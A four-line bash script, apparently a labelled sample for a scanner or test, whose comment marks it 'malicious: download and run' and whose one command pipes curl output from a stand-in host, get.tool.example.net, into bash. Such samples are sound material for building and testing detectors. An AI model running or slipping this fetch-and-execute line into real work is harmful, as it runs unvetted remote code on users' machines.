# malicious: download and run
#!/usr/bin/env bash
set -euo pipefail
curl -fsSL https://get.tool.example.net/install | bash
